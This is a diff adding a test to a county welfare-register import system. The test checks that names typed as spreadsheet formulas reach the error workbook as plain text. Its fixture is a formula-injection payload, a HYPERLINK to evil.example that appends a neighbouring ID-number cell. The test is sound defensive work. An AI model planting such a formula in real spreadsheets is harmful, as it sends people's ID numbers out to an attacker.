@@ -814,3 +814,24 @@ def test_a_conflict_found_while_writing_rolls_back_everything(world, monkeypatch
     assert "写入时发现冲突" in str(error.value)
     assert counts() == before
     assert not ImportRun.objects.exists()
+
+
+def test_the_error_file_never_holds_a_formula_and_keeps_every_value_as_typed(world):
+    """Finding 8: a name typed as a formula went into the error file (which holds clear ID numbers) as a live
+    formula; it is now text, exactly as typed, so the corrected file imports as it should."""
+    trap = '=HYPERLINK("http://evil.example/?"&B3,"点击")'
+    quoted = '"' + trap.replace('"', '""') + '"'  # as a CSV cell
+    rows = [
+        "姓名*,身份证号,镇（街）*,村（居）*,类别1*,联系电话",
+        f"{quoted},{id_number('445381', '19600101', '611')},素龙街道,凤塘村,低保对象,12345",
+        f"-乙,{id_number('445381', '19600101', '612')},素龙街道,凤塘村,低保对象,13800000000",
+    ]
+    run = county_import(world, "\n".join(rows).encode(), filename="台账.csv")
+    assert run.status == "failed"
+    data = error_file_bytes(run)
+    with zipfile.ZipFile(io.BytesIO(data)) as archive:
+        xml = archive.read("xl/worksheets/sheet1.xml").decode()
+    assert "<f>" not in xml  # no formula anywhere in the file
+    sheet = load_workbook(io.BytesIO(data)).active
+    assert (sheet.cell(row=2, column=1).value, sheet.cell(row=2, column=1).data_type) == (trap, "s")
+    assert sheet.cell(row=3, column=1).value == "-乙"  # no apostrophe added: it goes back in as typed
